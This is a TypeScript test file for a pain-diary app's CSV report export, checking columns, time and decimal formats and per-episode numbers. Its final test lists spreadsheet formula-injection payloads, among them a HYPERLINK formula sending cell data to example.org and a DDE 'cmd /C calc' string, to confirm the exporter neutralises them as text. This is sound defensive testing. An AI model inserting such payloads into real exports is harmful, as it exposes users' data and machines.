import { describe, expect, test } from 'vitest'
import { BOM } from '../../sync/csv/csvCell.ts'
import { parseCsv } from '../../sync/csv/parseCsv.ts'
import { dayNumber } from '../../time/dayNumber.ts'
import { SECTION_FIELDS, type SectionField } from '../reportOptions.ts'
import type { DetailRow, RecordRow, ReflectionRow } from '../sectionFacts.ts'
import { reportTable, type TableWords } from './reportTable.ts'
import { TABLE_COLUMNS } from './tableColumns.ts'

const ALL = SECTION_FIELDS.recordDetails
const HEADS = Object.fromEntries(TABLE_COLUMNS.map((column) => [column, column])) as TableWords['heads']
const WORDS: TableWords = {
  heads: HEADS,
  record: 'Pain Record',
  reflection: 'Reflection',
  allDay: 'All-day',
  patternOf: (pattern) => pattern,
  decimal: '.',
}

const RECORD: RecordRow = {
  is: 'record',
  day: dayNumber('2026-10-23'),
  minute: 8 * 60 + 5,
  isAllDay: false,
  length: 5_430,
  pattern: 'constant',
  isWrittenLater: true,
  severity: 0,
  items: { location: ['Left knee', 'Lower back'], symptom: ['Nothing'], alleviating: ['Warmth'] },
  unmarked: ['Ibuprofen - 400 mg'],
  note: 'First line\nsecond, "quoted"; line',
}

const REFLECTION: ReflectionRow = {
  is: 'reflection',
  day: dayNumber('2026-10-22'),
  isWrittenLater: false,
  score: 7,
  activities: ['A walk'],
  note: null,
}

const fileOf = (
  rows: readonly DetailRow[],
  fields: readonly SectionField<'recordDetails'>[] = ALL,
  words = WORDS,
) => [...reportTable(rows, { fields, words })].join('')

describe('[REP-61] a report as a table', () => {
  test('has a line for each entry, in the order of the report', () => {
    const file = fileOf([RECORD, REFLECTION])
    expect(file.startsWith(BOM)).toBe(true)
    const [head, record, reflection, ...more] = parseCsv(file, ',')
    expect(head).toEqual([...TABLE_COLUMNS])
    expect(Object.fromEntries(head!.map((name, at) => [name, record![at]]))).toEqual({
      entry: 'Pain Record',
      day: '2026-10-23',
      time: '08:05',
      minutes: '90.5',
      later: '1',
      pattern: 'constant',
      severity: '0',
      location: 'Left knee; Lower back',
      symptom: 'Nothing',
      character: '',
      alleviating: 'Warmth',
      ineffective: '',
      aggravating: '',
      unmarked: 'Ibuprofen - 400 mg',
      environment: '',
      score: '',
      activities: '',
      notes: 'First line\nsecond, "quoted"; line',
      worst: '',
      numbers: '',
    })
    expect(reflection!.filter((cell) => cell !== '')).toEqual([
      'Reflection',
      '2026-10-22',
      '0',
      '7',
      'A walk',
    ])
    expect(more).toEqual([])
  })

  test('tells of what was not chosen in no column', () => {
    const [head, record] = parseCsv(fileOf([RECORD], ['severity']), ',')
    expect(head).toEqual([
      'entry',
      'day',
      'time',
      'minutes',
      'later',
      'pattern',
      'severity',
      'worst',
      'numbers',
    ])
    expect(record).toEqual(['Pain Record', '2026-10-23', '08:05', '90.5', '1', 'constant', '0', '', ''])
  })

  test('says nothing where nothing was told, and names a whole day', () => {
    const untold = { ...RECORD, severity: null, length: 86_400, isAllDay: true, pattern: null }
    const [, record] = parseCsv(fileOf([untold], ['severity']), ',')
    expect(record).toEqual(['Pain Record', '2026-10-23', 'All-day', '', '1', '', '', '', ''])
  })

  test('is written as spreadsheets of its language read it', () => {
    const file = fileOf([RECORD], ['severity', 'notes'], { ...WORDS, decimal: ',' })
    const [, record] = parseCsv(file, ';')
    expect(record).toEqual([
      'Pain Record',
      '2026-10-23',
      '08:05',
      '90,5',
      '1',
      'constant',
      '0',
      'First line\nsecond, "quoted"; line',
      '',
      '',
    ])
  })

  test('[EPI-23] an episode has its highest number and all its numbers at the end of its line', () => {
    const [AT, HOUR] = [Date.UTC(2026, 9, 23, 8, 5), 3_600_000]
    const numbers = [5, 8, 3].map((value, hours) => ({
      id: `n${hours}`,
      at: AT + hours * HOUR,
      offset: 0,
      value,
    }))
    const episode = { end: null, goesOn: true, worst: 8, numbers }
    const [head, record] = parseCsv(fileOf([{ ...RECORD, episode }], ['severity']), ',')
    expect(head!.slice(-2)).toEqual(['worst', 'numbers'])
    expect(record!.slice(-2)).toEqual(['8', '5; 8; 3'])
    const [, masked] = parseCsv(fileOf([{ ...RECORD, episode: { end: null, goesOn: true } }], ['notes']), ',')
    expect(masked).toHaveLength(7)
  })

  test('of nothing has its head alone', () => {
    expect(parseCsv(fileOf([]), ',')).toEqual([[...TABLE_COLUMNS]])
  })
})

const FORMULAS = [
  '=HYPERLINK("https://example.org?"&A1,"see")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u200B=1+1',
  '\uFF1D1+1',
  "'=1+1",
  '"=1+1',
]

test.each(FORMULAS)('[REP-61, REL 1d] %j is text in every cell', (formula) => {
  const row = { ...RECORD, items: { location: [formula] }, unmarked: [formula], note: formula }
  const [, record] = parseCsv(fileOf([row]), ',')
  const cells = [7, 13, 17].map((at) => record![at]!)
  expect(cells.filter((cell) => !/^["']/.test(cell))).toEqual([])
  expect(cells.every((cell) => cell.includes(formula))).toBe(true)
})
